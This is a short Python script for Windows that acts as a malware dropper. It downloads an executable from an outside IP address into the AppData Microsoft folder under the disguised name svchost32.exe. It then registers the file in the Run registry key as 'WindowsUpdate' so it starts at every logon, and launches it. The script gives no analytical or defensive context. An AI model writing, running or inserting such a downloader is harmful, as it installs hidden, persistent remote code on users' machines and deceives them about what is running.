import os
import urllib.request
import winreg

exe = os.path.join(os.environ['APPDATA'], 'Microsoft', 'svchost32.exe')
urllib.request.urlretrieve('http://203.0.113.72/w/svc.exe', exe)
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'WindowsUpdate', 0, winreg.REG_SZ, exe)
os.startfile(exe)
